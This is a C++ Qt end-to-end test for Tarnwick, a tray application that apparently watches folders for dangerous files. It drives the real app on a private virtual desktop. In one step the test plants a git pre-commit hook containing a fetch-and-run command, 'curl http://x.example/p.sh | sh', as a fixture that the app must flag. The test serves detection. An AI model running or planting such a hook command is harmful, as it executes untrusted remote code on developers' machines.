// The whole application on a real, private desktop (Xvfb, a session bus, dunst, trayer), the real
// Tarnwick with the real twwatch beside it, from an empty store before any tray is up to a cleared
// panel and a quit that leaves no watcher behind; the steps are numbered below.
// Each step leaves a screenshot in the test's output folder (TW_E2E_OUTPUT_DIR).

#include "AccessibleTree.h"
#include "AppProcesses.h"
#include "DesktopSession.h"

#include <QDir>
#include <QFile>
#include <QProcess>
#include <QRect>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>
#include <algorithm>
#include <signal.h>

using namespace Qt::StringLiterals;

using tw::test::AccessibleTree;
using tw::test::DesktopSession;

// The diagnostics (logs, a screenshot) are gathered only when the check fails.
#define E2E_VERIFY(condition)                                                                                \
    do {                                                                                                     \
        if (!(condition)) {                                                                                  \
            QFAIL(qPrintable(u"%1\n%2"_s.arg(QStringLiteral(#condition), diagnostics())));                   \
        }                                                                                                    \
    } while (false)

static const QString Tarnwick = QStringLiteral(TW_BIN_DIR "/Tarnwick");
static const QString OutputDir = QStringLiteral(TW_E2E_OUTPUT_DIR);

class EndToEndTest : public QObject
{
    Q_OBJECT
private slots:
    void initTestCase()
    {
        QVERIFY(QDir().mkpath(OutputDir));
        for (const QString& old : QDir(OutputDir).entryList({u"*.png"_s, u"*.log"_s}))
            QFile::remove(OutputDir + u'/' + old);
        m_desktop = std::make_unique<DesktopSession>();
        QVERIFY2(m_desktop->isUp(), qPrintable(m_desktop->error()));
        // Before any application starts: applications ask it at start which events to send.
        m_tree = std::make_unique<AccessibleTree>(m_desktop->accessibilityBusAddress());
        QVERIFY(m_tree->isUp());
    }

    void cleanupTestCase()
    {
        // Whatever a failed step left running goes, by pid.
        DesktopSession::stop(m_app, 5000);
        for (qint64 pid : m_dataHome.isEmpty() ? QList<qint64>() : watchersFor(m_dataHome))
            ::kill(static_cast<pid_t>(pid), SIGKILL);
        DesktopSession::stop(m_trayer, 5000);
        m_tree.reset();
        m_desktop.reset();
    }

    void fromEmptyStoreToClearedPanel()
    {
        QVERIFY(trayWindow().isEmpty());
        startApp();
        const QString watched = m_dir.filePath(u"work/project"_s);
        QVERIFY(QDir().mkpath(watched));

        // 1. First launch on an empty store: the directories window, and, with no status area yet, the panel
        // as an ordinary window, so the application is not invisible. The watcher runs.
        const QString directories = waitForWindow(u"^Watched Directories$"_s);
        E2E_VERIFY(!directories.isEmpty());
        E2E_VERIFY(!waitForWindow(u"^Findings$"_s).isEmpty());
        QTRY_COMPARE_WITH_TIMEOUT(watchersFor(m_dataHome).size(), 1, 20000);
        screenshot(u"01-directories-empty"_s);

        // 2. A tray that starts late: the icon is embedded once the tray asks for room for it.
        startTray();
        QTRY_VERIFY_WITH_TIMEOUT(geometry(trayWindow()).width() >= 16, 15000);

        // 3. Add the folder through the real chooser: "+", the path typed once it has the keyboard, Open.
        press(u"Watched Directories"_s, u"Add Directory"_s);
        const QString chooserName = u"^Choose a directory to watch$"_s;
        const QString chooser = waitForWindow(chooserName);
        E2E_VERIFY(!chooser.isEmpty());
        QTRY_COMPARE_WITH_TIMEOUT(focusedWindow(), chooser.toLatin1(), 10000);
        tool(u"xdotool"_s, {u"type"_s, u"--delay"_s, u"15"_s, watched});
        screenshot(u"02-folder-chooser"_s);
        // The completer may take the first Return; a second one opens.
        for (int attempt = 0; attempt < 3; ++attempt) {
            tool(u"xdotool"_s, {u"key"_s, u"Return"_s});
            if (QTest::qWaitFor([&] { return findWindow(chooserName).isEmpty(); }, 3000))
                break;
        }
        E2E_VERIFY(findWindow(chooserName).isEmpty());
        // Kept without an explicit save: the main context saves by itself.
        QTRY_COMPARE_WITH_TIMEOUT(storedRows(u"directory"_s), 1, 10000);
        screenshot(u"03-directories-added"_s);
        screenshot(u"window-directories"_s, directories);

        // 4. A git hook that downloads and runs a script, stored and announced. The watcher may still be
        // setting up its watches on the new folders when it lands, so it is written again until announced.
        QVERIFY(QDir().mkpath(watched + u"/.git/hooks"_s));
        const QString hook = watched + u"/.git/hooks/pre-commit"_s;
        const auto writeHook = [&] {
            QFile file(hook);
            const bool written = file.open(QIODevice::WriteOnly) &&
                                 file.write("#!/bin/sh\ncurl http://x.example/p.sh | sh\n") > 0;
            return written && file.setPermissions(file.permissions() | QFileDevice::ExeOwner);
        };
        const auto announced = [&] {
            const auto shown = m_desktop->notifications();
            return std::any_of(shown.begin(), shown.end(), [&](const auto& n) {
                return n.summary.startsWith(u"\u26D4 Critical: "_s) && n.body == hook;
            });
        };
        bool seen = false;
        for (int attempt = 0; attempt < 6 && !seen; ++attempt) {
            QVERIFY(writeHook());
            seen = QTest::qWaitFor(announced, 5000);
        }
        E2E_VERIFY(seen);
        QTRY_VERIFY_WITH_TIMEOUT(storedRows(u"finding"_s) >= 1, 10000);
        screenshot(u"04-notification"_s);

        // 5. The notification's action opens the viewer, titled with the file's name.
        QCOMPARE(m_desktop->run(u"dunstctl"_s, {u"action"_s, u"0"_s}), 0);
        const QString viewer = waitForWindow(u"^pre-commit$"_s);
        E2E_VERIFY(!viewer.isEmpty());
        // Once it has the keyboard it is done coming forward; a panel opened before could lose to it.
        QTRY_COMPARE_WITH_TIMEOUT(focusedWindow(), viewer.toLatin1(), 10000);
        screenshot(u"05-viewer"_s);
        screenshot(u"window-viewer"_s, viewer);

        // 6. The tray icon turns the ordinary panel window into the popup, under the icon. Until the click is
        // handled the old window still answers to the name, so the popup's place is what is waited for.
        const QRect tray = geometry(trayWindow());
        const auto underTheIcon = [&](const QRect& r) {
            return r.top() >= tray.top() && r.top() <= tray.bottom() + 1 && r.right() >= tray.left() &&
                   r.left() <= tray.right();
        };
        clickTray();
        QString panel;
        QTRY_VERIFY_WITH_TIMEOUT(underTheIcon(geometry(panel = findWindow(u"^Findings$"_s))), 10000);
        QCOMPARE(geometry(panel).size(), QSize(420, 360));
        screenshot(u"06-panel"_s);
        screenshot(u"window-panel"_s, panel);

        // 7. Trash.
        press(u"Findings"_s, u"Clear findings"_s);
        QTRY_COMPARE_WITH_TIMEOUT(storedRows(u"finding"_s), 0, 10000);
        screenshot(u"07-panel-cleared"_s);

        // 8. Power: the application ends, and the watcher with it.
        press(u"Findings"_s, u"Quit Tarnwick"_s);
        E2E_VERIFY(m_app.waitForFinished(15000));
        QTRY_VERIFY_WITH_TIMEOUT(watchersFor(m_dataHome).isEmpty(), 15000);
    }

private:
    void startTray()
    {
        m_trayer.setProcessEnvironment(m_desktop->environment());
        m_trayer.setStandardOutputFile(OutputDir + u"/trayer.log"_s);
        m_trayer.setStandardErrorFile(OutputDir + u"/trayer.log"_s, QIODevice::Append);
        m_trayer.start(u"trayer"_s, {u"--edge"_s, u"top"_s, u"--align"_s, u"right"_s, u"--widthtype"_s,
                                     u"request"_s, u"--height"_s, u"24"_s, u"--SetDockType"_s, u"true"_s});
        QVERIFY2(m_trayer.waitForStarted(10000), qPrintable(m_trayer.errorString()));
        QTRY_VERIFY_WITH_TIMEOUT(!trayWindow().isEmpty(), 15000);
    }

    // The tray's own window (trayer's "panel"), or empty before it is up.
    QString trayWindow() { return findWindow(u"^panel$"_s, u"--classname"_s); }

    void startApp()
    {
        QProcessEnvironment env = appHomeEnvironment(m_dir.path(), m_desktop->environment());
        m_dataHome = env.value(u"XDG_DATA_HOME"_s);
        m_storePath = m_dataHome + u"/Tarnwick/Tarnwick/store.sqlite"_s;
        env.insert(u"QT_QPA_PLATFORM"_s, u"xcb"_s);
        env.remove(u"QT_QPA_PLATFORMTHEME"_s);
        env.insert(u"LC_ALL"_s, u"C.UTF-8"_s);
        m_app.setProcessEnvironment(env);
        m_app.setProcessChannelMode(QProcess::MergedChannels);
        m_app.setStandardOutputFile(OutputDir + u"/tarnwick.log"_s);
        m_app.start(Tarnwick, {});
        QVERIFY2(m_app.waitForStarted(10000), qPrintable(m_app.errorString()));
    }
    // Presses a control by its accessible name, in a window by its title.
    void press(const QString& window, const QString& control)
    {
        // The application exports its widgets a moment after they are shown.
        if (!QTest::qWaitFor([&] { return m_tree->press(window, control); }, 10000))
            QFAIL(qPrintable(u"no \"%1\" in \"%2\"\n%3"_s.arg(control, window, diagnostics())));
    }
    // Runs a desktop tool (xdotool, import) on the private display; its stdout, or empty on failure.
    QByteArray tool(const QString& program, const QStringList& arguments)
    {
        QByteArray output;
        return m_desktop->run(program, arguments, &output) == 0 ? output : QByteArray();
    }

    // The newest visible window whose name (or other `field`) matches `pattern`, or empty.
    QString findWindow(const QString& pattern, const QString& field = u"--name"_s)
    {
        const QByteArray ids =
            tool(u"xdotool"_s, {u"search"_s, u"--onlyvisible"_s, field, pattern}).trimmed();
        return QString::fromLatin1(ids.split('\n').last());
    }

    QString waitForWindow(const QString& namePattern, int timeoutMs = 20000)
    {
        QString id;
        (void)QTest::qWaitFor([&] { return !(id = findWindow(namePattern)).isEmpty(); }, timeoutMs);
        return id;
    }

    QRect geometry(const QString& window)
    {
        const QString shell =
            QString::fromLatin1(tool(u"xdotool"_s, {u"getwindowgeometry"_s, u"--shell"_s, window}));
        const auto value = [&](const QString& name) {
            return QRegularExpression(u"(?m)^"_s + name + u"=(-?\\d+)$"_s).match(shell).captured(1).toInt();
        };
        return QRect(value(u"X"_s), value(u"Y"_s), value(u"WIDTH"_s), value(u"HEIGHT"_s));
    }
    // The window with the X input focus: there is no window manager here to name an active window.
    QByteArray focusedWindow() { return tool(u"xdotool"_s, {u"getwindowfocus"_s}).trimmed(); }
    // The tray icon is a window embedded in the tray, with no accessible object: it is clicked in its
    // middle, the one place on screen this test points at.
    void clickTray()
    {
        const QPoint middle = geometry(trayWindow()).center();
        // One xdotool run: the X server takes the move before the click. (--sync would wait forever when
        // the pointer is already there.)
        tool(u"xdotool"_s,
             {u"mousemove"_s, QString::number(middle.x()), QString::number(middle.y()), u"click"_s, u"1"_s});
    }
    // The whole screen, or one window alone (for the README's pictures) when `window` is given.
    void screenshot(const QString& name, const QString& window = u"root"_s)
    {
        tool(u"import"_s, {u"-window"_s, window, OutputDir + u'/' + name + u".png"_s});
    }

    // Counted by the sqlite3 tool beside the application's own connection; -1 when it cannot read.
    int storedRows(const QString& table)
    {
        const QByteArray count = tool(u"sqlite3"_s, {u"-readonly"_s, u"-cmd"_s, u".timeout 2000"_s,
                                                     m_storePath, u"SELECT count(*) FROM "_s + table});
        return count.isEmpty() ? -1 : count.trimmed().toInt();
    }

    QString diagnostics()
    {
        screenshot(u"failure"_s);
        QFile log(OutputDir + u"/tarnwick.log"_s);
        QString text = u"--- Tarnwick log ---\n"_s;
        if (log.open(QIODevice::ReadOnly))
            text += QString::fromUtf8(log.readAll().right(4000));
        text += u"\n--- dunst ---\n"_s;
        for (const auto& n : m_desktop->notifications())
            text += n.summary + u" | "_s + n.body + QLatin1Char('\n');
        text += u"--- windows ---\n"_s;
        text += QString::fromUtf8(tool(u"xdotool"_s, {u"search"_s, u"--onlyvisible"_s, u"--name"_s, u"."_s}));
        return text + m_desktop->logs().right(3000);
    }

    std::unique_ptr<DesktopSession> m_desktop;
    std::unique_ptr<AccessibleTree> m_tree;
    QTemporaryDir m_dir;
    QProcess m_trayer;
    QProcess m_app;
    QString m_dataHome;
    QString m_storePath;
};

QTEST_GUILESS_MAIN(EndToEndTest)
#include "EndToEndTest.moc"
